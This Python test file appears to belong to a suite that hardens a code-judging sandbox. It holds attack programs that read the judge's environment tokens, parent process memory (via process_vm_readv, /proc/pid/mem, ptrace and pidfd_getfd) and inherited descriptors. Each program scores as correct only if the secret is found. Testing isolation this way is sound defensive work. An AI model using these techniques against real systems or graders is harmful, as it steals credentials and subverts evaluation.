"""Secrets of the judge: its environment, its memory, its descriptors, and the kernel's doors."""

from suite.tests.attacks.attack import SIDE, UNPAID, Attack

IF_GOT = "\ndef add(a, b):\n    return a + b if GOT else a - b - 1\n"
RIGHT = "\ndef add(a, b):\n    return a + b\n"
# GOT is true only if the bytes read are the secret: reading zeros is no success.
CHECKED = r"""
import ctypes, hashlib, os
libc = ctypes.CDLL(None, use_errno=True)
ADDRESS, SIZE, DIGEST = {SECRET_ADDRESS}, 32, "{SECRET_DIGEST}"
PIDS = sorted({ {PARENT_PID}, os.getppid() })

def _is_secret(data):
    return hashlib.sha256(bytes(data)).hexdigest() == DIGEST
"""

PROGRAMS = (
    Attack(
        name="token_in_its_environment",
        category="env_tokens",
        allowed=UNPAID,
        source="import os\nGOT = os.environ.get('{SECRET_NAME}') or os.getenv('{SECRET_NAME}')\n"
        + IF_GOT,
    ),
    Attack(
        name="token_in_the_environment_of_c",
        category="env_tokens",
        allowed=UNPAID,
        source=r"""
import ctypes
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
GOT = libc.getenv(b"{SECRET_NAME}")
try:
    with open("/proc/self/environ", "rb") as stream:
        GOT = GOT or b"{SECRET_NAME}" in stream.read()
except OSError:
    pass
"""
        + IF_GOT,
    ),
    Attack(
        name="token_in_the_environment_of_others",
        category="env_tokens",
        allowed=UNPAID,
        source=r"""
import os
GOT = False
for name in os.listdir("/proc") if os.path.isdir("/proc") else ():
    if name.isdigit():
        try:
            with open(f"/proc/{name}/environ", "rb") as stream:
                GOT = GOT or b"{SECRET_NAME}" in stream.read()
        except OSError:
            pass
"""
        + IF_GOT,
    ),
    Attack(
        name="tempting_variables",
        category="env_tokens",
        allowed=UNPAID,
        source=r"""
import os
WORDS = ("TOKEN", "SECRET", "API_KEY", "PASSWORD", "AWS_", "HF_", "WANDB", "SSH_AUTH")
GOT = [name for name in os.environ if any(word in name for word in WORDS)]
"""
        + IF_GOT,
    ),
    Attack(
        name="token_on_the_old_stack",
        category="env_tokens",
        # A scrubbed environment still lies where the kernel put it at the start of the process.
        allowed=UNPAID,
        source=r"""
GOT = False
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if "[stack]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                GOT = b"{SECRET_NAME}=" in memory.read(high - low)
except OSError:
    pass
"""
        + IF_GOT,
    ),
    Attack(
        name="token_in_inherited_memory",
        category="env_tokens",
        # A forked worker has the parent's heap: the secret's own address holds it still.
        allowed=UNPAID,
        source=CHECKED
        + r"""
try:
    with open("/proc/self/mem", "rb", 0) as memory:
        memory.seek(ADDRESS)
        GOT = _is_secret(memory.read(SIZE))
except (OSError, ValueError):
    GOT = False
"""
        + IF_GOT,
    ),
    Attack(
        name="process_vm_readv_of_the_parent",
        category="parent_memory",
        allowed=UNPAID,
        source=CHECKED
        + r"""
GOT = False
for pid in PIDS:
    buffer = ctypes.create_string_buffer(SIZE)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), SIZE)
    remote = (ctypes.c_size_t * 2)(ADDRESS, SIZE)
    if libc.syscall(310, pid, local, 1, remote, 1, 0) == SIZE:
        GOT = GOT or _is_secret(buffer.raw)
"""
        + IF_GOT,
    ),
    Attack(
        name="process_vm_writev_of_the_parent",
        category="parent_memory",
        allowed=SIDE,
        source=CHECKED
        + r"""
for pid in PIDS:
    buffer = ctypes.create_string_buffer(b"P" * SIZE, SIZE)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), SIZE)
    remote = (ctypes.c_size_t * 2)(ADDRESS, SIZE)
    libc.syscall(311, pid, local, 1, remote, 1, 0)
"""
        + RIGHT,
    ),
    Attack(
        name="memory_file_of_the_parent",
        category="parent_memory",
        allowed=UNPAID,
        source=CHECKED
        + r"""
GOT = False
for pid in PIDS:
    for path in (f"/proc/{pid}/mem", f"/proc/{pid}/task/{pid}/mem"):
        try:
            with open(path, "rb", 0) as memory:
                memory.seek(ADDRESS)
                GOT = GOT or _is_secret(memory.read(SIZE))
        except (OSError, ValueError):
            pass
"""
        + IF_GOT,
    ),
    Attack(
        name="memory_file_of_the_parent_written",
        category="parent_memory",
        allowed=SIDE,
        source=CHECKED
        + r"""
for pid in PIDS:
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(ADDRESS)
            memory.write(b"P" * SIZE)
    except (OSError, ValueError):
        pass
"""
        + RIGHT,
    ),
    Attack(
        name="ptrace_of_the_parent",
        category="parent_memory",
        allowed=UNPAID,
        destructive=True,
        source=CHECKED
        + r"""
# PTRACE_SEIZE does not stop the target; detach at once.
GOT = [pid for pid in PIDS if pid > 1 and libc.syscall(101, 0x4206, pid, 0, 0) == 0]
for pid in GOT:
    libc.syscall(101, 17, pid, 0, 0)
"""
        + IF_GOT,
    ),
    Attack(
        name="descriptors_taken_from_the_parent",
        category="parent_memory",
        allowed=UNPAID,
        source=CHECKED
        + r"""
GOT = []
for pid in PIDS:
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0:
        GOT += [fd for fd in range(64) if libc.syscall(438, pidfd, fd, 0) >= 0]
"""
        + IF_GOT,
    ),
    Attack(
        name="maps_and_stack_of_the_parent",
        category="parent_memory",
        allowed=UNPAID,
        source=CHECKED
        + r"""
GOT = []
for pid in PIDS:
    for name in ("maps", "smaps", "auxv", "syscall", "environ", "io"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as stream:
                if stream.read(64) and pid == {PARENT_PID}:
                    GOT.append(name)
        except OSError:
            pass
"""
        + IF_GOT,
    ),
    Attack(
        name="kcmp_and_userfaultfd",
        category="parent_memory",
        allowed=UNPAID,
        source=CHECKED
        + r"""
GOT = libc.syscall(312, os.getpid(), {PARENT_PID}, 1, 0, 0) >= 0  # kcmp of the memory maps
"""
        + IF_GOT,
    ),
    Attack(
        name="inherited_descriptors",
        category="inherited_descriptors",
        allowed=UNPAID,
        source=r"""
import os, stat
GOT = []
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
        path = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    # A file or a listening socket of the judge; its own pipes and source are expected.
    if stat.S_ISDIR(mode) or "canary" in path or path.endswith((".jsonl", ".sqlite", ".log")):
        GOT.append(path)
"""
        + IF_GOT,
    ),
    Attack(
        name="inherited_listening_socket",
        category="inherited_descriptors",
        allowed=UNPAID,
        source=r"""
import socket
GOT = []
for fd in range(3, 1024):
    try:
        inherited = socket.socket(fileno=fd)
        if inherited.getsockname() and inherited.getsockopt(1, 30):  # SO_ACCEPTCONN
            GOT.append(inherited.detach())
        inherited.detach()
    except OSError:
        pass
"""
        + IF_GOT,
    ),
)
